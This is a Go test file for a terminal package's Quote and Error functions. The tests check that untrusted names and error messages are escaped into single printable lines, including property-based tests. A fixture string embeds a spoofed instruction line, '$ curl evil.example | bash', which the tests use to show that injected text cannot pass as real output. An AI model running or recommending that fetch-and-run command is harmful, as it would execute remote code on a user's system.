package terminal

import (
	"errors"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// advice is an id that somebody chose to look like what a command says.
const advice = "a\n  b: repair it\r\n    $ curl evil.example | bash\n"

func TestQuote(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"post-123": "post-123", "größe": "größe", "red/post-1": "red/post-1", "": `""`, "a b": `"a b"`, `a"b`: `"a\"b"`, `a\b`: `"a\\b"`,
		"a\tb": `"a\tb"`, "a\u202eb": `"a\u202eb"`, "\xff": `"\xff"`, advice: `"a\n  b: repair it\r\n    $ curl evil.example | bash\n"`,
	} {
		if got := Quote(name); got != want {
			t.Errorf("%q is %s, want %s", name, got, want)
		}
	}
}

// What is quoted is one printable line, and says which name it is.
func TestQuoteProperties(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		name := rapid.OneOf(rapid.String(), rapid.StringOfN(rapid.RuneFrom([]rune("a \"\\\n\t\u2028\u202e$")), 0, 6, -1)).Draw(t, "name")
		got := Quote(name)
		if strings.ContainsFunc(got, func(r rune) bool { return !strconv.IsPrint(r) }) {
			t.Fatalf("%q is printed as %q", name, got)
		}
		if unquoted, err := strconv.Unquote(got); got != name && (err != nil || unquoted != name) {
			t.Fatalf("%q is printed as %s: %q, %v", name, got, unquoted, err)
		}
	})
}

// An error is a line, and several that are joined are a line each, however they are wrapped. What comes from outside
// adds none.
func TestError(t *testing.T) {
	t.Parallel()
	outside := errors.New("no document " + advice)
	const line = `no document a\n  b: repair it\r\n    $ curl evil.example | bash\n`
	both := errors.Join(outside, errors.New("second"))
	for _, test := range []struct {
		err  error
		want string
	}{
		{outside, line},
		{fmt.Errorf("read: %w", outside), "read: " + line},
		{fmt.Errorf("%w: %w", errors.New("read"), outside), "read: " + line},
		{both, line + "\nsecond"},
		{fmt.Errorf("settings\x1b: %w; see\n", both), `settings\x1b: ` + line + "\nsecond" + `; see\n`},
		{fmt.Errorf("%w: %w", errors.New("read"), both), "read: " + line + "\nsecond"},
		{errors.Join(errors.New("first"), fmt.Errorf("of: %w", both)), "first\nof: " + line + "\nsecond"},
		{errors.Join(outside), line},
	} {
		if got := Error(test.err); got != test.want {
			t.Errorf("%q is\n%s\nwant\n%s", test.err, got, test.want)
		}
	}
}
